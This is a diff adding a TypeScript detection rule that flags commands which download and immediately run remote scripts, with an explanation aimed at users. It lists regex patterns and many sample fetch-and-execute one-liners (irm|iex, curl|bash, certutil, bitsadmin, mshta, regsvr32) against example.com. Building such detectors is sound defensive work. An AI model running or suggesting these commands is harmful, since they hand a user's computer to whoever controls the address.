@@ -1,0 +1,110 @@
+import type { RiskRule } from './types.ts';
+
+/** Microsoft's own installers are fetched like that too. */
+const MICROSOFTS = /https:\/\/(?:aka\.ms|(?:[a-z0-9-]{1,40}\.){1,3}microsoft\.com)\//i;
+
+const FETCH =
+  '(?:irm|iwr|curl|wget|Invoke-RestMethod|Invoke-WebRequest|Start-BitsTransfer|DownloadString|DownloadFile|DownloadData|OpenRead|Net\\.WebClient)';
+const RUN = '(?:iex|Invoke-Expression|cmd|bash|sh|zsh|powershell|pwsh|python3?|node|cscript|wscript)';
+const PROGRAM = '\\.(?:bat|cmd|com|exe|hta|jse?|msi|ps1|psm1|scr|vb[es]|wsf)\\b';
+
+const linear = (source: string) => new RegExp(source, 'gi');
+
+export const remoteScript: RiskRule = {
+  id: 'remote-script',
+  level: 'danger',
+  source: {
+    name: 'MITRE ATT&CK: ingress tool transfer (T1105)',
+    url: 'https://attack.mitre.org/techniques/T1105/',
+  },
+  title: 'Runs a program straight from the internet',
+  explanation:
+    'The command fetches a script and runs it at once, with your rights, unseen. What it does can change from one hour to the next; whoever holds the address holds your computer.',
+  instead:
+    'Do not run it. Activating Windows needs nothing from the internet but Microsoft’s own activation.',
+  patterns: [
+    {
+      regex: linear(
+        `\\b${FETCH}\\b[^|]{1,300}?\\|\\s{0,4}(?:[a-z%?-]{1,20}(?:\\s[^|]{0,60})?\\|\\s{0,4})?(?:&\\s?)?(?:sudo\\s)?${RUN}\\b`,
+      ),
+      unless: MICROSOFTS,
+    },
+    {
+      regex: linear(
+        `\\b(?:iex|Invoke-Expression)\\b[\\s(&"'{$]{1,12}[^|\\n]{0,120}?\\b${FETCH}\\b[^|\\n]{0,160}`,
+      ),
+      unless: MICROSOFTS,
+    },
+    {
+      regex: linear(`\\bScriptBlock\\]?(?:::|\\s)Create\\b[\\s\\S]{0,120}?\\b${FETCH}\\b[^|\\n]{0,160}`),
+      unless: MICROSOFTS,
+    },
+    {
+      regex: linear(
+        `\\b${FETCH}\\b[^|\\n]{0,300}?\\s(?:-o|-outf(?:ile)?|-destination|--output)[\\s:=]{1,3}["']?[^\\s"'|]{1,160}?${PROGRAM}`,
+      ),
+      unless: MICROSOFTS,
+    },
+    { regex: linear(`\\bDownloadFile\\b[^\\n]{0,300}?${PROGRAM}`), unless: MICROSOFTS },
+    {
+      regex: linear(
+        `\\$\\w{1,30}\\s?=\\s?\\(?\\s?${FETCH}\\b[\\s\\S]{0,300}?\\b(?:iex|Invoke-Expression)\\b`,
+      ),
+      unless: MICROSOFTS,
+    },
+    {
+      regex: linear(
+        `\\b(?:bash|sh)\\b\\s{0,3}(?:-c\\s{1,3})?["']?<?\\s?[$<]?\\(\\s?(?:curl|wget)\\b[^\\n]{0,160}`,
+      ),
+      unless: MICROSOFTS,
+    },
+    { regex: /\bcertutil(?:\.exe)?\b[^\n]{0,80}[-/]urlcache\b[^\n]{0,160}/gi },
+    { regex: /\bbitsadmin(?:\.exe)?\b[^\n]{0,80}[-/]transfer\b[^\n]{0,160}/gi },
+    { regex: /\bmshta(?:\.exe)?["']?\s{1,4}["']?(?:https?:|\\\\|ftp:)[^\s]{0,160}/gi },
+    { regex: /\bregsvr32(?:\.exe)?\b[^\n]{0,80}[-/]i:\s?["']?https?:[^\s]{0,160}/gi },
+    { regex: /\bmsiexec(?:\.exe)?\b[^\n]{0,60}\s["']?https?:[^\s]{0,160}/gi, unless: MICROSOFTS },
+    { regex: /\bwmic\b[^\n]{0,120}[-/]format:\s?["']?(?:https?:|\\\\)[^\s]{0,160}/gi },
+  ],
+  examples: {
+    match: {
+      command: [
+        'irm https://example.com/a | iex',
+        'IRM example.com/a|IEX',
+        'iwr -useb https://example.com/a.ps1 | iex',
+        'Invoke-RestMethod https://example.com/a | Invoke-Expression',
+        'curl -s https://example.com/a.cmd | cmd',
+        'curl -fsSL https://example.com/a.sh | sudo bash',
+        'iex (irm https://example.com/a)',
+        'iex "& { $(irm https://example.com/a) } /x"',
+        'iex ((New-Object System.Net.WebClient).DownloadString("https://example.com/a"))',
+        '(New-Object Net.WebClient).DownloadString("https://example.com/a") | iex',
+        '& ([ScriptBlock]::Create((irm https://example.com/a))) /x',
+        'powershell -c "irm https://example.com/a | iex"',
+        'i`r`m https://example.com/a | i`e`x',
+        'irm https://example.com/a |\n  iex',
+        '$s = irm https://example.com/a\niex $s',
+        'iwr https://example.com/a.cmd -OutFile a.cmd',
+        'curl -o run.bat https://example.com/run.bat',
+        'certutil -urlcache -split -f https://example.com/a.exe a.exe',
+        'bitsadmin /transfer job https://example.com/a.exe C:\\a.exe',
+        'mshta https://example.com/a.hta',
+        'regsvr32 /s /i:https://example.com/a.sct example.dll',
+        'msiexec /q /i https://example.com/a.msi',
+        'wmic os get /format:"https://example.com/a.xsl"',
+      ],
+      prose: ['Open PowerShell as administrator, paste irm https://example.com/get | iex and press Enter.'],
+    },
+    pass: {
+      command: [
+        'Invoke-WebRequest https://example.com/guide.pdf -OutFile guide.pdf',
+        'curl https://example.com/status',
+        'irm https://aka.ms/example | iex',
+        'certutil -hashfile windows.iso SHA256',
+        'Get-Content list.txt | sort',
+        'wmic os get caption',
+        'msiexec /i package.msi',
+      ],
+      prose: ['Use curl to see whether the address answers.'],
+    },
+  },
+};
